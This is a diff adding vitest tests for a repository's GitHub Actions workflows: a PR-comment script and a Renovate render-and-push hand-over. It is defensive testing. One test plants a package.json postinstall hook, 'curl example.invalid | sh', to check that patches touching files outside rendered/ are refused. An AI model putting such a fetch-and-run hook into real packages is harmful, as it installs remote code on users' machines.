@@ -4,7 +4,8 @@
  * over them, and they follow the project's rules (actions pinned by SHA,
  * least-privilege permissions, no persisted credentials, concurrency groups).
  */
-import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -139,5 +140,137 @@ describe('what the workflows do', () => {
     const pushScript: string = jobs.push.steps.map((step: { run?: string }) => step.run ?? '').join('\n');
     expect(pushScript).not.toMatch(/\bnpm\b|\bnpx\b|\bnode\b/);
     expect(pushScript).toContain("grep -Ev '^(rendered/|environments/[^/]+\\.schema\\.json$)'");
+  });
+});
+
+describe('the comment step of rendered-diff.yml (its github-script, run with a stand-in GitHub client)', () => {
+  const MARKER = '<!-- dubai-hub:rendered-diff -->';
+  const script: string = workflow('rendered-diff.yml').jobs.comment.steps[0].with.script;
+  type Comment = { id: number; body: string; user: { type: string }; html_url: string };
+
+  async function runScript(existing: Comment[], body: string) {
+    const calls: { method: string; params: Record<string, unknown> }[] = [];
+    const failures: string[] = [];
+    const record = (method: string) => async (params: Record<string, unknown>) => {
+      calls.push({ method, params });
+      return { data: { html_url: 'https://example.invalid/c/new' } };
+    };
+    const listComments = async () => ({ data: existing });
+    const github = {
+      paginate: async (method: unknown, params: Record<string, unknown>) => {
+        expect(method).toBe(listComments);
+        expect(params).toMatchObject({ owner: 'dubai-hub', repo: 'platform', issue_number: 42 });
+        return existing;
+      },
+      rest: { issues: { listComments, updateComment: record('updateComment'), createComment: record('createComment') } },
+    };
+    const context = { repo: { owner: 'dubai-hub', repo: 'platform' }, payload: { pull_request: { number: 42 } } };
+    const core = { info: () => undefined, setFailed: (message: string) => failures.push(message) };
+    const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor;
+    await new AsyncFunction('github', 'context', 'core', 'process', script)(github, context, core, { env: { BODY: body } });
+    return { calls, failures };
+  }
+
+  it('creates the comment on the first push', async () => {
+    const { calls } = await runScript([{ id: 1, body: 'LGTM', user: { type: 'User' }, html_url: '' }], `${MARKER}\nsummary`);
+    expect(calls).toEqual([{ method: 'createComment', params: { owner: 'dubai-hub', repo: 'platform', issue_number: 42, body: `${MARKER}\nsummary` } }]);
+  });
+
+  it('updates its own comment on later pushes instead of adding one, ignoring people who quote the marker', async () => {
+    const { calls } = await runScript(
+      [
+        { id: 1, body: `${MARKER}\nquoted by a person`, user: { type: 'User' }, html_url: '' },
+        { id: 7, body: `${MARKER}\nold summary`, user: { type: 'Bot' }, html_url: '' },
+      ],
+      `${MARKER}\nnew summary`,
+    );
+    expect(calls).toEqual([{ method: 'updateComment', params: { owner: 'dubai-hub', repo: 'platform', comment_id: 7, body: `${MARKER}\nnew summary` } }]);
+  });
+
+  it('fails instead of posting when the summary job produced nothing', async () => {
+    const { calls, failures } = await runScript([], '');
+    expect(calls).toEqual([]);
+    expect(failures).toEqual(['The summary job produced no comment body; see its log.']);
+  });
+});
+
+describe('the hand-over in renovate-render.yml (its shell steps, run in temporary git repositories)', () => {
+  const jobs = workflow('renovate-render.yml').jobs;
+  const patchStep: string = jobs.render.steps.find((step: { id?: string }) => step.id === 'patch').run;
+  const pushStep: string = jobs.push.steps.find((step: { name?: string }) => step.name === 'Apply, commit and push').run;
+  const sh = (cwd: string, script: string, env: Record<string, string>) => spawnSync('bash', ['-eo', 'pipefail', '-c', script], { cwd, env: { ...process.env, ...env }, encoding: 'utf8' });
+  const gitIn = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', stdio: 'pipe' });
+  const outputs = (file: string) => Object.fromEntries(readFileSync(file, 'utf8').split('\n').filter(Boolean).map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]));
+
+  function setUp(name: string) {
+    const base = join(scratch, name);
+    const origin = join(base, 'origin.git');
+    mkdirSync(base, { recursive: true });
+    gitIn(base, 'init', '-q', '--bare', '-b', 'main', origin);
+    const seed = join(base, 'seed');
+    gitIn(base, 'clone', '-q', origin, seed);
+    gitIn(seed, 'config', 'user.email', 'renovate@example.com');
+    gitIn(seed, 'config', 'user.name', 'renovate');
+    mkdirSync(join(seed, 'rendered/dev'), { recursive: true });
+    writeFileSync(join(seed, 'rendered/dev/deployment.yaml'), 'image: litellm:main-v1.85.1\n');
+    writeFileSync(join(seed, 'package.json'), '{}\n');
+    mkdirSync(join(seed, 'environments'), { recursive: true });
+    writeFileSync(join(seed, 'environments/dev.yaml'), 'litellm:\n  image:\n    tag: main-v1.86.0\n');
+    gitIn(seed, 'checkout', '-q', '-b', 'renovate/litellm');
+    gitIn(seed, 'add', '-A');
+    gitIn(seed, '-c', 'core.hooksPath=/dev/null', 'commit', '-qm', 'Update litellm to main-v1.86.0');
+    gitIn(seed, 'push', '-q', 'origin', 'renovate/litellm');
+    return { base, origin, seed };
+  }
+
+  it('carries the re-rendered files from the read-only job to the pushing job and pushes one commit', () => {
+    const { base, origin, seed } = setUp('handover');
+    // What `npm run render` would do on the branch:
+    writeFileSync(join(seed, 'rendered/dev/deployment.yaml'), 'image: litellm:main-v1.86.0\n');
+    writeFileSync(join(seed, 'rendered/dev/job.yaml'), 'name: migrate-main-v1-86-0\n');
+    const output = join(base, 'render-output');
+    writeFileSync(output, '');
+    const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
+    expect(render.status, render.stdout + render.stderr).toBe(0);
+    const handed = outputs(output);
+    expect(handed['changed']).toBe('true');
+
+    const pusher = join(base, 'pusher');
+    gitIn(base, 'clone', '-q', '--branch', 'renovate/litellm', origin, pusher);
+    const push = sh(pusher, pushStep, { PATCH: handed['patch']!, BRANCH: 'renovate/litellm', RUNNER_TEMP: base });
+    expect(push.status, push.stdout + push.stderr).toBe(0);
+    const log = gitIn(origin, 'log', '-1', '--format=%an <%ae>%n%s', 'renovate/litellm');
+    expect(log).toBe('github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>\nRender rendered/ for renovate/litellm\n');
+    expect(gitIn(origin, 'show', 'renovate/litellm:rendered/dev/job.yaml')).toBe('name: migrate-main-v1-86-0\n');
+    expect(gitIn(origin, 'diff', '--name-only', 'renovate/litellm~1', 'renovate/litellm').trim().split('\n')).toEqual(['rendered/dev/deployment.yaml', 'rendered/dev/job.yaml']);
+  });
+
+  it('says so and hands over nothing when rendered/ is already up to date', () => {
+    const { base, seed } = setUp('clean');
+    const output = join(base, 'render-output');
+    writeFileSync(output, '');
+    const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
+    expect(render.status).toBe(0);
+    expect(render.stdout).toContain('rendered/ is already up to date.');
+    expect(outputs(output)).toEqual({ changed: 'false' });
+  });
+
+  it('refuses a patch that touches anything outside rendered/, in either job', () => {
+    const { base, origin, seed } = setUp('outside');
+    writeFileSync(join(seed, 'package.json'), '{"scripts":{"postinstall":"curl example.invalid | sh"}}\n');
+    const output = join(base, 'render-output');
+    writeFileSync(output, '');
+    const render = sh(seed, patchStep, { GITHUB_OUTPUT: output });
+    expect(render.status).not.toBe(0);
+    expect(render.stdout).toContain('::error::npm run render changed files outside rendered/: package.json');
+
+    // A patch crafted by hand is refused by the pushing job as well.
+    const crafted = execFileSync('bash', ['-c', 'git add -A && git diff --cached --binary | gzip -9 | base64 -w0'], { cwd: seed, encoding: 'utf8' });
+    const pusher = join(base, 'pusher');
+    gitIn(base, 'clone', '-q', '--branch', 'renovate/litellm', origin, pusher);
+    const push = sh(pusher, pushStep, { PATCH: crafted, BRANCH: 'renovate/litellm', RUNNER_TEMP: base });
+    expect(push.status).not.toBe(0);
+    expect(push.stdout).toContain('::error::Refusing a patch that touches files outside rendered/: package.json');
+    expect(gitIn(origin, 'rev-list', '--count', 'renovate/litellm').trim()).toBe('1');
   });
 });
